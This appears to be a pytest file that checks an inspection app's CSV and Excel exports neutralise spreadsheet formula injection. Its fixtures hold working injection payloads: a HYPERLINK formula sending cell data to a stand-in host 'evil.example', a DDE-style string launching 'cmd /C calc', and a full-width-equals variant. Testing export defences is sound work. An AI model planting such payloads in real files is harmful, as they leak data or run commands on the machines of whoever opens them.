"""Exports through the API hold no formula (issue 14, item 3): a site name and answers made to be formulas."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.clients import Client, World, device

SITE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"
STALL = "＝1＋1"


def test_site_names_and_answers_are_text_in_both_exports(client: Client, world: World, probe: None) -> None:
    admin = world.headers["admin"]
    district = next(iter(world.districts.values()))
    body = {"district_id": district, "name": SITE, "site_type": "market", "address": "路"}
    site = client.post("/api/sites", json=body, headers=admin).json()["id"]
    assigned = client.put(f"/api/users/{world.users['inspector1']}/sites", json={"site_ids": [site]}, headers=admin)
    assert assigned.status_code == 200, assigned.text
    phone = device(client)
    inspection_id = phone.create(site, "sync_probe")
    entry = phone.add_entry(inspection_id, "stalls")
    phone.set(inspection_id, {"licence": "fail", "frozen_temp": -20, "notes": NOTES})
    phone.set(inspection_id, {f"stalls/{entry}/stall_no": STALL, f"stalls/{entry}/prices": "pass"})
    phone.sync()

    text = client.get("/api/exports/inspections.csv", headers=admin).content.decode("utf-8-sig")
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["inspection_id"] == inspection_id]
    assert row["site"] == "'" + SITE
    answers = client.get("/api/exports/answers.csv", headers=admin).content.decode("utf-8-sig")
    values = {r["item_path"]: r["value"] for r in csv.DictReader(io.StringIO(answers))}
    assert values["notes"] == "'" + NOTES
    assert values["stalls/stall_no"] == "'" + STALL
    assert values["frozen_temp"] == "-20"  # a number, not text
    assert ",-20," in answers  # written bare, not quoted

    for path in ("inspections.xlsx", "answers.xlsx"):
        book = load_workbook(io.BytesIO(client.get(f"/api/exports/{path}", headers=admin).content))
        cells = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
        assert all(c.data_type != "f" for c in cells)
        assert not [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=@＝"]
        temps = [c.value for c in cells if c.value == -20]
        assert temps == [-20] if path == "answers.xlsx" else temps == []
